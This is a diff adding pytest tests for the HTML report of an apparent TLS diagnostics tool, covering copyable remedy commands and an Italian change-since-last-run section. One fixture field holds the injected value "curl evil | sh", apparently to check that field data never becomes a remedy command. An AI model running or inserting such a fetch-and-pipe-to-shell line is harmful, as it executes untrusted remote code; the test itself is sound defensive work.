@@ -5,8 +5,12 @@ from html.parser import HTMLParser
 
 import pytest
 
+from squilla.doctor.checks import chain_trust
+from squilla.doctor.engine import Attempt, Outcome
+from squilla.doctor.reports.difference import difference
 from squilla.doctor.reports.html import to_html
-from squilla.doctor.verdict import Evidence
+from squilla.doctor.reports.report import Report
+from squilla.doctor.verdict import Evidence, Finding
 from squilla.texts import Language, translate
 from tests.unit.doctor.making import attempt
 from tests.unit.doctor.reports.sample import failed, of_everything, report
@@ -71,3 +75,27 @@ def test_a_page_without_faults() -> None:
     text = to_html(report(attempt("B1-X")), "en")
     assert "All is well" in text
     assert 'class="card fail"' not in text
+
+
+def test_each_command_of_a_remedy_can_be_copied_by_itself() -> None:
+    [remedy] = re.findall(r'<div class="remedy">.*?</div>', to_html(of_a_chain(), "en"), re.DOTALL)
+    commands = re.findall(r'<code class="command">(.*?)</code><button type="button" hidden', remedy)
+    assert commands == [
+        "squilla tls reload",
+        "curl -s http://ca.example/i.der | openssl x509 -inform der &gt;&gt; fullchain.pem",
+    ]
+
+
+def of_a_chain() -> Report:
+    values = {"ports": "443", "missing": "R3 'curl evil | sh'", "url": "http://ca.example/i.der"}
+    found = Finding(chain_trust.INCOMPLETE, values)
+    return report(Attempt(chain_trust.CHECK, Outcome.DONE, (found,)))
+
+
+def test_what_has_changed_since_an_earlier_run() -> None:
+    before, now = report(attempt("B1-X")), report(failed("B1-X"))
+    text = to_html(now, "it", difference(before, now))
+    assert Page(text).open == []
+    assert "Rispetto alla diagnosi del 2026-11-23 11:00 UTC:" in text
+    assert "<li>B1-X: prima bene, ora GUASTO</li>" in text
+    assert 'id="since"' not in to_html(now, "it")
